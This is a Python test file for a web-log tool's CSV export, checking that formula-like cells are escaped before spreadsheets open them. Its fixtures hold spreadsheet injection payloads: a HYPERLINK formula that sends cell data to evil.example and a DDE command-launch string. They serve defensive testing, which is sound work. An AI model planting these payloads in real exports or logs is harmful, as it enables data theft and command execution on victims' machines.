# -*- test-case-name: tests.test_panelcsv -*-
"""Tests for L{weblog.panelcsv} and C{/weblog.rpy/csv}: a view's panels as CSV."""

from __future__ import annotations

import csv
import io
from typing import Any

from twisted.trial import unittest
from weblog.errors import BadQuery
from weblog.panelcsv import HEADERS, STEP, csv_steps, csv_text, panel_of, rows_of, safe
from weblog.queries import answer
from weblog.question import Question
from weblog.resources import WeblogPage

from tests.test_pages import PageCase, StatedHistory, body_of, get
from tests.test_panelqueries import row, spec
from tests.stores import append_rows, new_store

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LOGGED = "=cmd|' /C calc'!A0"
"""A hostile referrer that an access log's quoted field can hold."""


def parsed(body: bytes) -> list[list[str]]:
    """The rows of a CSV body."""
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


class SafeTests(unittest.TestCase):
    """L{safe} and L{csv_text}: log text a spreadsheet cannot run."""

    def test_formulas(self) -> None:
        """Text that starts like a formula is written after a quote; other cells as they are."""
        for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HOSTILE, "  =1+1"):
            self.assertEqual(safe(text), "'" + text)
        self.assertEqual([safe(value) for value in ("/a", 5, -5, None, 1.5)],
                         ["/a", 5, -5, "", 1.5])

    def test_quoting(self) -> None:
        """Every cell is quoted (commas, quotes and line breaks within); the header comes
        first."""
        body = csv_text(("resource", "hits"), [['/a,"b"\nc', 2], [HOSTILE, 1]])
        self.assertEqual(body, b'"resource","hits"\r\n"/a,""b""\nc","2"\r\n'
                               b'"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")","1"\r\n')
        self.assertEqual(parsed(body)[2], ["'" + HOSTILE, "1"])

    def test_semicolonLocales(self) -> None:
        """A cell that holds a formula after a C{;} is quoted whole, so that a spreadsheet that
        splits on C{;} (many locales do) reads it as one cell of text, not a formula."""
        body = csv_text(("agent", "hits"), [["x;=cmd|' /C calc'!A0", 1]])
        self.assertEqual(body.split(b"\r\n")[1], b'"x;=cmd|\' /C calc\'!A0","1"')

    def test_inSteps(self) -> None:
        """A long CSV is written a step of rows at a time, the same bytes as at once."""
        rows = [[f"/r{n}", n] for n in range(2 * STEP + 1)]
        pieces: list[bytes] = []
        steps = list(csv_steps(("resource", "hits"), rows, pieces))
        self.assertEqual(len(steps), 3)
        self.assertEqual(b"".join(pieces), csv_text(("resource", "hits"), rows))

    def test_panelOf(self) -> None:
        """A missing, repeated or unknown panel is refused, naming the panels."""
        self.assertEqual(panel_of([b"browsers"]), "browsers")
        for values, reason in (([], "panel: is missing: name one of sites, referrers,"),
                               ([b"a", b"b"], "panel: given more than once"),
                               ([b"<script>"], "panel: must be one of sites,")):
            error = self.assertRaises(BadQuery, panel_of, values)
            self.assertTrue(str(error).startswith(reason), error)
        self.assertIn("got '<script>'", str(self.assertRaises(BadQuery, panel_of, [b"<script>"])))


class RowsTests(unittest.TestCase):
    """L{rows_of}: every panel of a real history answer, as rows."""

    def setUp(self) -> None:
        store = new_store(self)
        hits = [row("/gone", status=404, referrer=HOSTILE), row("/gone", status=404),
                row("/old", status=410), row("/slow", duration=2000, bytes=7),
                row("/slow", duration=4000, bytes=7), row(bot=True),
                row("/a", site="x.example", referrer="http://x.example/", vhost="v.example",
                    source="a.log", status=503)]
        append_rows(store, hits)
        with store.reading() as db:
            self.answer = answer(db, spec(Question()))

    def test_everyPanel(self) -> None:
        """Each panel has rows as wide as its header."""
        for panel, header in HEADERS.items():
            rows = rows_of(panel, self.answer)
            self.assertTrue(rows, panel)
            self.assertEqual({len(each) for each in rows}, {len(header)}, panel)

    def test_troubles(self) -> None:
        """One row per referrer of a resource; one with an empty referrer when it has none."""
        self.assertEqual(rows_of("not_found", self.answer),
                         [["/gone", 2, HOSTILE, 1], ["/old", 1, None, None]])

    def test_totals(self) -> None:
        """The panels with a total give it first, as (all): the response times' figures, the
        visitors, the crawlers' hits and the bytes of the window."""
        self.assertEqual(rows_of("response_times", self.answer)[0][:2], ["(all)", 2])
        self.assertEqual(rows_of("crawlers", self.answer), [["(all)", 1], ["Googlebot", 1]])
        self.assertEqual(rows_of("bandwidth", self.answer)[:2], [["(all)", 514], ["/gone", 200]])
        time = self.answer["buckets"]["counts"][0][0]
        self.assertEqual(rows_of("visitors", self.answer), [["(all)", 7, 1], [time, 7, 1]])

    def test_sitesWithVisitors(self) -> None:
        """A referring site's row holds its visitors."""
        self.assertEqual(rows_of("sites", self.answer), [["x.example", 1, 1]])

    def test_chart(self) -> None:
        """The chart's rows: each bucket's time, hits and series."""
        [bucket] = rows_of("chart", self.answer)
        self.assertEqual(bucket[1:5], [7, 1, 1, 514])


class CsvPageTests(PageCase):
    """C{/weblog.rpy/csv}: the same view as the JSON, one panel of it as CSV."""

    def csv(self, query: str, page: WeblogPage | None = None) -> tuple[int, Any, bytes]:
        """The answer's code, its headers and its body, for C{query}."""
        request = get(page or WeblogPage(self.records), query, b"csv")
        return request.responseCode or 200, request.responseHeaders, body_of(request)

    def history(self) -> StatedHistory:
        """A history that answers a real store's view."""
        store = new_store(self)
        hits = [row("/gone", status=404, referrer=HOSTILE), row("/a", browser="Fire,fox")]
        append_rows(store, hits)
        with store.reading() as db:
            history = StatedHistory(answer(db, spec(Question()), top=1000), state="ok")
        self.records.history = history
        return history

    def test_history(self) -> None:
        """A history view's panel: CSV, its header first, hostile cells escaped, named for a
        download; the history is asked for lists of up to 1000."""
        history = self.history()
        code, headers, body = self.csv("panel=not_found&range=all")
        self.assertEqual(code, 200)
        self.assertEqual(headers.getRawHeaders(b"content-type"), [b"text/csv; charset=utf-8"])
        self.assertEqual(headers.getRawHeaders(b"content-disposition"),
                         [b'inline; filename="weblog-not_found.csv"'])
        self.assertEqual(headers.getRawHeaders(b"x-content-type-options"), [b"nosniff"])
        self.assertEqual(parsed(body), [["resource", "hits", "referrer", "referrer_hits"],
                                        ["/gone", "1", "'" + HOSTILE, "1"]])
        self.assertEqual(history.asked[0]["top"], 1000)
        self.assertEqual(parsed(self.csv("panel=browsers&range=all")[2])[1:],
                         [["Chrome", "1"], ["Fire,fox", "1"]])
        self.assertEqual(parsed(self.csv("panel=visitors&range=all")[2])[:2],
                         [["time", "hits", "visitors"], ["(all)", "2", "1"]])

    def test_keptByPanel(self) -> None:
        """The server keeps each panel's CSV apart, and apart from the JSON."""
        history = self.history()
        page = WeblogPage(self.records)
        browsers = self.csv("panel=browsers&range=all", page)[2]
        self.assertEqual(self.csv("panel=browsers&range=all", page)[2], browsers)
        self.assertEqual(len(history.asked), 1)
        self.assertNotEqual(self.csv("panel=countries&range=all", page)[2], browsers)
        self.assertNotEqual(body_of(get(page, "range=all", b"json"))[:1], b"b")
        self.assertEqual(len(history.asked), 3)

    def test_live(self) -> None:
        """The live view's panels: its top lists, its chart per minute and its hits."""
        self.writeLog('203.0.113.9 - - [17/May/2015:10:05:03 +0000] "GET /x HTTP/1.1" 200 5 '
                      f'"{LOGGED}" "Mozilla/5.0"\n')
        self.records.refresh()
        code, headers, body = self.csv("panel=referrers")
        self.assertEqual((code, parsed(body)), (200, [["referrer", "hits"],
                                                      ["'" + LOGGED, "1"]]))
        hits = parsed(self.csv("panel=hits&referrer=any")[2])
        self.assertEqual(hits[0][:4], ["time", "client", "method", "resource"])
        self.assertEqual(hits[1][1:4], ["203.0.113.9", "GET", "/x"])
        self.assertEqual(parsed(self.csv("panel=chart")[2])[0], ["time", "hits"])
        self.assertEqual(parsed(self.csv("panel=sites")[2]), [["site", "hits"]])  # no visitors

    def test_bad(self) -> None:
        """An unknown or missing panel, or a bad parameter, is a 400 with its reason."""
        for query, reason in (("panel=nope", b"panel: must be one of sites, referrers"),
                              ("", b"panel: is missing"),
                              ("panel=sites&limit=0", b"limit: must be a whole number"),
                              ("panel=sites&range=2w", b"range: must be one of")):
            code, headers, body = self.csv(query)
            self.assertEqual(code, 400, query)
            self.assertIn(reason, body)
            self.assertIsNone(headers.getRawHeaders(b"content-disposition"))

    def test_liveViewHasNoSuchPanel(self) -> None:
        """A panel of the history alone, asked of the live view, is a 400 that says how."""
        self.records.history = StatedHistory(state="ok")
        for panel in ("browsers", "visitors"):
            code, _, body = self.csv(f"panel={panel}")
            self.assertEqual(code, 400)
            self.assertIn(b"panel: '%s' needs a history view: add range=all, or from/to"
                          % panel.encode(), body)

    def test_historyOff(self) -> None:
        """With the history off, a history panel or a window is a 400 that says so."""
        self.assertIsNone(self.records.history)
        code, _, body = self.csv("panel=browsers")
        self.assertEqual(code, 400)
        self.assertIn(b"needs the history, which is off (WEBLOG_HISTORY=off)", body)
        code, _, body = self.csv("panel=sites&range=all")
        self.assertEqual(code, 400)
        self.assertIn(b"needs the history, which is off", body)

    def test_unanswered(self) -> None:
        """While the history cannot answer, a 503 with its reason, as text."""
        self.records.history = StatedHistory(state="locked")
        code, headers, body = self.csv("panel=sites&range=all")
        self.assertEqual((code, body), (503, b"the history is locked: not ready\n"))
        self.assertEqual(headers.getRawHeaders(b"content-type"), [b"text/plain; charset=utf-8"])
